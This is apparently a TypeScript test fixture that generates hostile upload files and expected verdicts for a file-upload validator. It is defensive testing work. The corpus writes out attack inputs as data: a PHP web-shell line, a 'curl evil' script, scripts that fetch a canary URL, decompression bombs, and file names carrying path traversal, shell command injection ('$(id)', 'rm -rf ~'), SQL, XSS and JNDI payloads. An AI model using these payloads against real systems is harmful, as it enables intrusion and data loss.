import { deflateSync, crc32 } from 'node:zlib';
import { hostilePdfs } from './hostile-pdfs.ts';
import { hostileSvgs } from './hostile-svgs.ts';
import { samplePdf, samplePicture } from './sample-files.ts';
import { eicar } from './stand-in-clamd.ts';

/** What must become of a file: refused at the door, refused by the examination, or kept. */
export type Verdict = 'unsupported' | 'infected' | 'activeContent' | 'unreadable' | 'kept';

export type HostileFile = { what: string; name: string; content: Uint8Array<ArrayBuffer>; verdict: Verdict };

type Content = string | Uint8Array;

export function hostile(
  what: string,
  name: string,
  content: Content | readonly Content[],
  verdict: Verdict,
): HostileFile {
  const pieces = (Array.isArray(content) ? content : [content]) as Content[];
  const bytes = pieces.map((piece) => (typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece));
  return { what, name, content: new Uint8Array(Buffer.concat(bytes)), verdict };
}

const extensions = ['jpg', 'jpeg', 'png', 'heic', 'heif', 'bmp', 'pdf', 'svg'] as const;

/** Everything that the corpus holds; addresses in it point to `canary`, which nobody may call. */
export async function hostileFiles(canary: string): Promise<HostileFile[]> {
  const [png, jpeg] = [await samplePicture('png'), await samplePicture('jpeg')];
  return [
    ...foreignContents(canary),
    ...wrongNames({ png, jpeg }),
    ...polyglots({ png, jpeg }, canary),
    ...pictures({ png, jpeg }),
    ...hostileSvgs(canary),
    ...hostilePdfs(canary),
    ...infected({ png, jpeg }),
    ...names(),
  ];
}

/** Contents of kinds that are not taken, under every name that is. */
function foreignContents(canary: string): HostileFile[] {
  const contents: Record<string, Content | readonly Content[]> = {
    'an HTML page': `<!doctype html><html><body><script src="${canary}"></script></body></html>`,
    'an HTML page without a doctype': `<html><img src=x onerror="fetch('${canary}')"></html>`,
    'an XHTML page': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>`,
    JavaScript: `fetch('${canary}');`,
    'a PHP script': `<?php system($_GET['c']); ?>`,
    'a shell script': '#!/bin/sh\ncurl evil\n',
    'a Windows program': ['MZ', new Uint8Array(200)],
    'a Linux program': ['\x7fELF', new Uint8Array(200)],
    'a ZIP archive': ['PK\x03\x04', new Uint8Array(200)],
    'a RAR archive': ['Rar!\x1a\x07\x00', new Uint8Array(200)],
    'a gzip file': ['\x1f\x8b\x08', new Uint8Array(200)],
    'a GIF': ['GIF89a', new Uint8Array(200)],
    'a WebP': ['RIFF\x20\x00\x00\x00WEBPVP8 ', new Uint8Array(200)],
    'a TIFF': ['II*\x00', new Uint8Array(200)],
    'an icon': ['\x00\x00\x01\x00\x01\x00', new Uint8Array(200)],
    'an MP4 film': ['\x00\x00\x00\x18ftypmp42', new Uint8Array(200)],
    'an AVIF': ['\x00\x00\x00\x18ftypavif', new Uint8Array(200)],
    'an old Word file': ['\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', new Uint8Array(600)],
    'a Java class': ['\xca\xfe\xba\xbe\x00\x00\x00\x34', new Uint8Array(200)],
    WebAssembly: ['\x00asm\x01\x00\x00\x00', new Uint8Array(200)],
    'an RTF text': '{\\rtf1\\ansi hello}',
    'an RSS feed': '<?xml version="1.0"?><rss version="2.0"><channel></channel></rss>',
    'plain text': 'hello world',
    zeros: new Uint8Array(1000),
    'one byte': 'x',
  };
  return Object.entries(contents).flatMap(([what, content]) =>
    extensions.map((extension) => hostile(`${what} as ${extension}`, `bild.${extension}`, content, 'unsupported')),
  );
}

type Pictures = { png: Uint8Array; jpeg: Uint8Array };

/** Kinds that are taken, under the name of another. */
function wrongNames({ png, jpeg }: Pictures): HostileFile[] {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5"/></svg>';
  const contents: [string, Content, string[]][] = [
    ['PNG', png, ['png']],
    ['JPEG', jpeg, ['jpg', 'jpeg']],
    ['PDF', samplePdf({ words: 'wrong' }), ['pdf']],
    ['SVG', svg, ['svg']],
    ['BMP', bmp(4, 4), ['bmp']],
  ];
  return contents.flatMap(([kind, content, own]) =>
    extensions
      .filter((extension) => !own.includes(extension))
      .map((extension) => hostile(`${kind} as ${extension}`, `a.${extension}`, content, 'unsupported')),
  );
}

/** Files that are two things at once. What they are by their first bytes counts, and nothing is ever shown as the other. */
function polyglots({ png, jpeg }: Pictures, canary: string): HostileFile[] {
  const html = `<html><script src="${canary}"></script></html>`;
  const zip = 'PK\x03\x04........PK\x05\x06';
  const pdf = samplePdf({ words: 'polyglot' });
  const comment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from(`\xff\xfe\x00\x40${html.padEnd(62)}`, 'latin1'),
    jpeg.subarray(2),
  ]);
  return [
    hostile('JPEG with HTML after it', 'a.jpg', [jpeg, html], 'kept'),
    hostile('JPEG with HTML in a comment', 'a.jpg', comment, 'kept'),
    hostile('JPEG with a PDF after it', 'a.jpg', [jpeg, pdf], 'kept'),
    hostile('JPEG with a PDF after it, as PDF', 'a.pdf', [jpeg, pdf], 'unsupported'),
    hostile('PNG with HTML after it', 'a.png', [png, html], 'kept'),
    hostile('PNG with a ZIP after it', 'a.png', [png, zip], 'kept'),
    hostile('PNG with a program after it', 'a.png', [png, 'MZ', new Uint8Array(99)], 'kept'),
    hostile('PDF with HTML after it', 'a.pdf', [pdf, html], 'kept'),
    hostile('PDF with a ZIP after it', 'a.pdf', [pdf, zip], 'kept'),
    hostile('HTML before a PDF', 'a.pdf', [html, pdf], 'unsupported'),
    hostile('HTML before a PDF, as HTML', 'a.html', [html, pdf], 'unsupported'),
    hostile(
      'a bitmap that is JavaScript',
      'a.bmp',
      ['BM=1;', `fetch('${canary}')//`, new Uint8Array(60)],
      'unreadable',
    ),
    hostile('a ZIP before a PDF', 'a.pdf', [zip, pdf], 'unsupported'),
    hostile('a double ending', 'a.pdf.exe', pdf, 'unsupported'),
    hostile('a double ending the other way', 'a.exe.pdf', samplePdf({ words: 'double' }), 'kept'),
    hostile('an ending hidden by an override', 'a\u202Efdp.exe', pdf, 'unsupported'),
  ];
}

function pictures({ png, jpeg }: Pictures): HostileFile[] {
  const heic = (boxes: string) => ['\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', boxes, new Uint8Array(100)];
  const ispe = (width: number, height: number) => {
    const size = Buffer.alloc(8);
    size.writeUInt32BE(width, 0);
    size.writeUInt32BE(height, 4);
    return `\x00\x00\x00\x14ispe\x00\x00\x00\x00${size.toString('latin1')}`;
  };
  return [
    hostile('PNG of 60000 × 60000', 'a.png', pngHeader(60_000, 60_000), 'unreadable'),
    hostile('PNG of 2³¹ × 2³¹', 'a.png', pngHeader(2 ** 31 - 1, 2 ** 31 - 1), 'unreadable'),
    hostile('PNG of no size', 'a.png', pngHeader(0, 0), 'unreadable'),
    hostile('PNG that is a header only', 'a.png', png.subarray(0, 8), 'unsupported'),
    hostile('PNG cut in the middle', 'a.png', png.subarray(0, Math.floor(png.length / 2)), 'kept'),
    hostile(
      'PNG that packs a gigabyte',
      'a.png',
      pngHeader(15_000, 15_000, deflateSync(Buffer.alloc(30_000_000))),
      'kept',
    ),
    hostile('PNG with a text that packs 50 megabytes', 'a.png', withText(png), 'kept'),
    hostile('JPEG of 65535 × 65535', 'a.jpg', jpegOfSize(jpeg, 65_535, 65_535), 'unreadable'),
    hostile('JPEG cut in the middle', 'a.jpg', jpeg.subarray(0, Math.floor(jpeg.length * 0.8)), 'kept'),
    hostile('JPEG that is noise after its first bytes', 'a.jpg', ['\xff\xd8\xff\xe0', noise(3000)], 'unreadable'),
    hostile('BMP of 50000 × 50000', 'a.bmp', bmp(50_000, 50_000), 'unreadable'),
    hostile('BMP of a size below nothing', 'a.bmp', bmp(-2_147_483_648, -2_147_483_648), 'unreadable'),
    hostile('BMP cut after its header', 'a.bmp', bmp(100, 100).subarray(0, 60), 'kept'),
    hostile('BMP as it should be', 'b.bmp', bmp(16, 16), 'kept'),
    hostile('HEIC without a picture', 'a.heic', heic(''), 'unreadable'),
    hostile('HEIC of 60000 × 60000', 'a.heic', heic(ispe(60_000, 60_000)), 'unreadable'),
    hostile('HEIC that names a size and has nothing else', 'a.heic', heic(ispe(100, 100)), 'kept'),
    hostile('HEIF that names a size and is noise', 'a.heif', [...heic(ispe(640, 480)), noise(5000)], 'kept'),
  ];
}

function infected({ png, jpeg }: Pictures): HostileFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><desc><![CDATA[${eicar}]]></desc></svg>`;
  return [
    hostile('EICAR as it is', 'eicar.pdf', eicar, 'unsupported'),
    hostile('EICAR under its own name', 'eicar.com', eicar, 'unsupported'),
    hostile('EICAR after a PDF', 'a.pdf', [samplePdf(), eicar], 'infected'),
    hostile('EICAR after a PNG', 'a.png', [png, eicar], 'infected'),
    hostile('EICAR after a JPEG', 'a.jpg', [jpeg, eicar], 'infected'),
    hostile('EICAR after a BMP', 'a.bmp', [bmp(8, 8), eicar], 'infected'),
    hostile('EICAR in a drawing', 'a.svg', svg, 'infected'),
  ];
}

/** Names made to leave their folder, break a header or deceive a reader; the files are in order. */
function names(): HostileFile[] {
  const hostileNames = [
    '../../../../etc/passwd.pdf',
    '..\\..\\windows\\system32\\a.pdf',
    '/etc/shadow.pdf',
    'C:\\autoexec.pdf',
    '\\\\server\\share.pdf',
    '....//....//a.pdf',
    '%2e%2e%2fa.pdf',
    '..%c0%afa.pdf',
    'a\u0000.pdf',
    'a\u0000b.exe\u0000.pdf',
    'a\r\nSet-Cookie: x=1\r\n.pdf',
    'a"; filename="b.exe.pdf',
    "a'; drop table documents; --.pdf",
    '<script>alert(1)</script>.pdf',
    '<img src=x onerror=alert(1)>.pdf',
    '${jndi:ldap://x}.pdf',
    '{{7*7}}.pdf',
    '`id`.pdf',
    '$(id).pdf',
    '| id.pdf',
    '; rm -rf ~.pdf',
    '-rf.pdf',
    '--help.pdf',
    '.pdf',
    '..pdf',
    'CON.pdf',
    'NUL.pdf',
    'aux.pdf',
    'COM1.pdf',
    'a:b.pdf',
    'a::$DATA.pdf',
    'a?.pdf',
    'a*.pdf',
    'a|b.pdf',
    '~.pdf',
    'desktop.ini.pdf',
    'a\u202Eexe.pdf',
    'a\u200B.pdf',
    '\uFEFFa.pdf',
    'e\u0301.pdf',
    '💥.pdf',
    '診断書.pdf',
    'Ω≈ç.pdf',
    'ﷺ.pdf',
    '\uD800.pdf',
    'a\u2028b.pdf',
    `${'a'.repeat(1000)}.pdf`,
    `${'💥'.repeat(300)}.pdf`,
    ' .pdf',
    'a .pdf',
    'a\tb.pdf',
    'a.PDF',
    'A.PdF',
    'a.b.c.d.pdf',
    '__proto__.pdf',
    'constructor.pdf',
    'null.pdf',
    'true.pdf',
    '0.pdf',
    '\u0007.pdf',
    '\u001b[31m.pdf',
  ];
  return hostileNames.map((name, index) =>
    hostile(`the name ${JSON.stringify(name).slice(0, 60)}`, name, samplePdf({ words: `name ${index}` }), 'kept'),
  );
}

function noise(size: number): Buffer {
  // Always the same, so that a failure can be looked at again.
  let seed = 42;
  return Buffer.from(
    Array.from({ length: size }, () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return (seed >> 8) & 0xff;
    }),
  );
}

export function pngChunk(type: string, data: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(type), data]);
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([size, named, sum]);
}

function pngHeader(width: number, height: number, data: Uint8Array = deflateSync(Buffer.alloc(100))): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([start, pngChunk('IHDR', header), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))]);
}

function withText(png: Uint8Array): Buffer {
  const text = Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(50_000_000, 'a'))]);
  return Buffer.concat([png.subarray(0, 33), pngChunk('zTXt', text), png.subarray(33)]);
}

/** The same picture, whose header says another size. */
function jpegOfSize(jpeg: Uint8Array, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(height, frame + 5);
  changed.writeUInt16BE(width, frame + 7);
  return changed;
}

function bmp(width: number, height: number): Buffer {
  const isSmall = width > 0 && width <= 200;
  const row = isSmall ? Math.ceil((width * 3) / 4) * 4 : 0;
  const bytes = Buffer.alloc(54 + row * (isSmall ? height : 0), 0x7f);
  bytes.write('BM');
  bytes.writeUInt32LE(bytes.length, 2);
  bytes.writeUInt32LE(54, 10);
  bytes.writeUInt32LE(40, 14);
  bytes.writeInt32LE(width, 18);
  bytes.writeInt32LE(height, 22);
  bytes.writeUInt16LE(1, 26);
  bytes.writeUInt16LE(24, 28);
  bytes.writeUInt32LE(0, 30);
  return bytes;
}
